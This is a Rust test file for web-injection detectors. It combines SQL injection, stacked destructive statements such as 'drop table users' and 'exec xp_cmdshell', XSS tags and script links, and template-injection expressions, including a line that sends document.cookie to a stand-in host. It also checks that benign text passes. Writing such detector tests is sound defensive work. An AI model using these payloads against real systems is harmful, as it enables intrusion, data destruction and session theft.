//! Attacks and good text made by combination: contexts, break-outs, bodies,
//! blanks and spellings on one side, sentences, names and code on the other.

use std::fmt::Write as _;

use super::cases::severity;
use super::{Detector, Where, ALL};
use crate::rule::Severity;

/// What all detectors together add to the score, as rules' findings do.
fn score(text: &str) -> u32 {
    let points = |detector: &&Detector| match severity(detector, Where::Parameter, text) {
        Some(Severity::Error) => 4,
        Some(Severity::Warning) => 3,
        Some(severity) if severity < Severity::Error => 5,
        Some(_) => 2,
        None => 0,
    };
    ALL.iter().map(points).sum()
}

/// At least so many of a thousand texts are refused.
fn most_are_found(texts: &[String], of_thousand: usize) {
    let missed: Vec<_> = texts.iter().filter(|text| score(text) < 5).collect();
    let found = texts.len() - missed.len();
    assert!(!texts.is_empty());
    assert!(
        found * 1000 >= texts.len() * of_thousand,
        "{found} of {}: {:#?}",
        texts.len(),
        missed
            .iter()
            .step_by(missed.len() / 40 + 1)
            .collect::<Vec<_>>()
    );
}

/// At most so many of a thousand texts are refused.
fn most_pass(texts: &[String], of_thousand: usize) {
    let wrong: Vec<_> = texts.iter().filter(|text| score(text) >= 5).collect();
    assert!(!texts.is_empty());
    assert!(
        wrong.len() * 1000 <= texts.len() * of_thousand,
        "{} of {}: {:#?}",
        wrong.len(),
        texts.len(),
        wrong
            .iter()
            .step_by(wrong.len() / 40 + 1)
            .collect::<Vec<_>>()
    );
}

/// Before the body, behind it.
const PLACES: &[(&str, &str)] = &[
    ("1 ", ""),
    ("1 ", "-- -"),
    ("1) ", "-- -"),
    ("1)) ", "#"),
    ("-1 ", " -- x"),
    ("x' ", "-- -"),
    ("x' ", " and 'a'='a"),
    ("x') ", " and ('a'='a"),
    ("x\" ", "-- -"),
    ("x\" ", " and \"a\"=\"a"),
    ("' ", "#"),
    ("%' ", " and '%'='"),
    ("O''Brien' ", "/*"),
    ("x` ", "-- -"),
];

const CONDITIONS: &[&str] = &[
    "or 1=1",
    "and 2>1",
    "or 'a' like 'a'",
    "and 5 between 1 and 9",
    "or not 1=2",
    "and ascii(substring((select user()),1,1))>64",
    "and exists(select 1 from users)",
    "or (select count(*) from users)>0",
    "and sleep(5)",
    "or pg_sleep(5) is null",
    "and extractvalue(1,concat(0x7e,version()))",
    "and 1=convert(int,@@version)",
    "union select null,null,null",
    "union all select 1,password from users",
    "union/**/select/**/1,2",
    "/*!50000union*/ /*!50000select*/ 1,2,3",
    "and case when 1=1 then 1 else 0 end=1",
    "and 1 in (select 1)",
    "xor 1=1",
    "&& 1=1",
    "and dbms_pipe.receive_message('a',5)=1",
];

/// How a body is written otherwise.
const SPELLINGS: &[fn(&str) -> String] = &[
    str::to_owned,
    str::to_uppercase,
    |text| {
        text.char_indices()
            .map(|(place, letter)| match place % 2 {
                0 => letter.to_ascii_uppercase(),
                _ => letter,
            })
            .collect()
    },
    |text| text.replace(' ', "/**/"),
    |text| text.replace(' ', "\n"),
    |text| text.replace(' ', "\t\u{b}"),
    |text| text.replace(' ', "/*x*/"),
    |text| text.replace(' ', "\u{a0}"),
    |text| text.replace(' ', "--x\n"),
    |text| text.replace("or ", "/*!or*/ ").replace("and ", "/*!and*/ "),
    |text| text.replace('=', " LIKE "),
];

#[test]
fn sql_in_every_place_and_spelling() {
    let mut texts = Vec::new();
    for (before, behind) in PLACES {
        for body in CONDITIONS {
            for spelling in SPELLINGS {
                texts.push(format!("{before}{}{behind}", spelling(body)));
            }
        }
    }
    most_are_found(&texts, 990);
}

#[test]
fn statements_behind_another() {
    let mut texts = Vec::new();
    for (before, behind) in [
        ("1;", ""),
        ("x';", "-- -"),
        ("x');", "--"),
        ("1);", "#"),
        ("x\";", "-- "),
    ] {
        for body in [
            "drop table users",
            "delete from users where 1=1",
            "insert into users values(1,'x')",
            "update users set admin=1",
            "waitfor delay '0:0:5'",
            "select pg_sleep(5)",
            "exec xp_cmdshell 'dir'",
            "exec('sel'+'ect 1')",
            "declare @x varchar(99)",
            "truncate table users",
            "create table x(a int)",
            "alter table users add x int",
            "shutdown",
        ] {
            for spelling in &SPELLINGS[..9] {
                texts.push(format!("{before}{}{behind}", spelling(body)));
            }
        }
    }
    most_are_found(&texts, 970);
}

const ELEMENTS: &[&str] = &[
    "img src=x",
    "svg",
    "body",
    "details open",
    "x",
    "input autofocus",
    "video src",
];
const SCRIPTS: &[&str] = &[
    "alert(1)",
    "confirm`1`",
    "top['al'+'ert'](1)",
    "location='//x.example/'+document.cookie",
    "eval(atob('YQ=='))",
    "&#97;lert(1)",
    "import('//x.example')",
    "(alert)(1)",
    "[1].map(alert)",
];

#[test]
fn html_in_every_place_and_spelling() {
    let mut texts = Vec::new();
    for before in [
        "",
        "x",
        "\">",
        "'>",
        "--><",
        "</textarea>",
        "</script>",
        "<b>",
        "<p title=\"",
        "<!-- x -->",
    ] {
        for element in ELEMENTS {
            for event in ["onload", "onerror", "ontoggle", "onfocus", "onanythingelse"] {
                for script in SCRIPTS {
                    texts.push(format!("{before}<{element} {event}={script}>"));
                    let slashes = element.trim_end_matches("=x").replace(' ', "/");
                    texts.push(format!("{before}<{slashes}/{event}={script}"));
                    texts.push(format!(
                        "{before}<{}\n{}\t=\n'{script}'>",
                        element.to_uppercase(),
                        event.to_uppercase()
                    ));
                }
            }
        }
    }
    most_are_found(&texts, 998);
}

#[test]
fn links_in_every_spelling() {
    let mut texts = Vec::new();
    for scheme in [
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\u{1}javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6a;&#x61;vascript:",
        "j&Tab;avascript&#58;",
        "vbscript:",
        "data:text/html,",
        "data:image/svg+xml;base64,",
        "data:;text/html,",
    ] {
        for script in SCRIPTS {
            for (before, behind) in [
                ("<a href=\"", "\">x</a>"),
                ("<a href='", "'>x"),
                ("<iframe src=\"", "\">"),
                ("<form action=\"", "\"><input type=submit>"),
                ("<button formaction=\"", "\">"),
                ("<svg><a xlink:href=\"", "\">"),
                ("<object data=\"", "\">"),
                ("<math href=\"", "\">"),
            ] {
                texts.push(format!("{before}{scheme}{script}{behind}"));
            }
        }
    }
    most_are_found(&texts, 920);
}

#[test]
fn scripts_behind_a_string() {
    let mut texts = Vec::new();
    for (before, behind) in [
        ("';", "//"),
        ("\";", "//"),
        ("'-", "-'"),
        ("\"+", "+\""),
        ("\\';", "//"),
        ("');", "//"),
        ("'});", "//"),
        ("x'||", "||'"),
        ("',", ",'"),
    ] {
        for script in [
            "alert(1)",
            "foo(1)",
            "document.write('x')",
            "window.open('//x.example')",
            "eval(name)",
            "a.b.c(1)",
        ] {
            texts.push(format!("{before}{script}{behind}"));
        }
    }
    most_are_found(&texts, 990);
}

#[test]
fn expressions_between_every_delimiter() {
    let mut texts = Vec::new();
    for (before, behind) in [
        ("{{", "}}"),
        ("{{ ", " }}"),
        ("{{{", "}}}"),
        ("${", "}"),
        ("${{", "}}"),
        ("#{", "}"),
        ("*{", "}"),
        ("<%= ", " %>"),
        ("@(", ")"),
        ("Hello {{", "}}!"),
    ] {
        for body in [
            "7*7",
            "191 * 7",
            "7*'7'",
            "''.__class__.__mro__",
            "x.getClass().forName('a')",
            "T(java.lang.Runtime).getRuntime()",
            "config.__class__.__init__.__globals__",
            "a.constructor.constructor('x')()",
            "().__class__.__bases__[0].__subclasses__()",
        ] {
            texts.push(format!("{before}{body}{behind}"));
        }
    }
    most_are_found(&texts, 990);
}

const NAMES: &[&str] = &[
    "O'Brien",
    "D'Angelo",
    "L'Oréal",
    "Müller",
    "van 't Hoff",
    "N'Golo",
    "Ana \"Nina\" Ruiz",
    "岡田",
];
const SENTENCES: &[&str] = &[
    "Please select all that apply, and order by phone",
    "it's 5 o'clock -- really",
    "rock 'n' roll; drop by the table at the union",
    "I like it: 1 < 2 and 3 > 2",
    "see a = b or c = d (where x > 0)",
    "Select from the list and update your profile",
    "<3 you, <john@example.com> said",
    "we don't know; they're here or there",
    "\"yes\" and \"no\" aren't the same",
    "price: $5 or 10% off @ shop #1",
    "use `select` or `insert` and **bold**",
    "if (a < b && c > d) { return a || b; }",
    "List<String> names = new ArrayList<>();",
    "x => x.map(y => y + 1).join(', ')",
    "<p>hello <b>world</b></p>",
    "<a href=\"https://example.com/?a=1&or=2\">link</a>",
    "GET /a?b=c&or=1 HTTP/1.1\" 200 12",
    "at com.example.Foo.bar(Foo.java:12)",
    "query { user(id: \"1\") { name, email } }",
    "{\"a\": \"it's\", \"b\": [1, 2, null]}",
    "a { color: red; } /* a comment */",
    "=SUM(A1:A3)&\" and \"&B1",
    "SGVsbG8gd29ybGQgb3IgMT0x",
    "{{name}}, ${user.first} and <%= title %>",
    "😀 👍 — “quoted” text… and ‘more’",
    "From: a@b.example\nSubject: Re: it's done",
    "- one\n- two\n\n1. three or 4. four",
    "SELECT name FROM users WHERE id = 3 ORDER BY name",
    "f'(x) = 2x and g''(x) = 0",
    "5' 11\" tall and 6' wide",
];

#[test]
fn good_text_passes_alone_and_joined() {
    let mut texts: Vec<String> = Vec::new();
    for first in SENTENCES {
        texts.push((*first).to_owned());
        for second in SENTENCES {
            for joint in [" ", ". ", "\n\n", " - ", ", "] {
                texts.push(format!("{first}{joint}{second}"));
            }
        }
        for name in NAMES {
            texts.push(format!("{name}: {first}"));
            texts.push(format!("{first} ({name})"));
        }
    }
    let mut long = String::new();
    for sentence in SENTENCES {
        let _ = writeln!(long, "{sentence}");
    }
    texts.push(long);
    most_pass(&texts, 4);
}
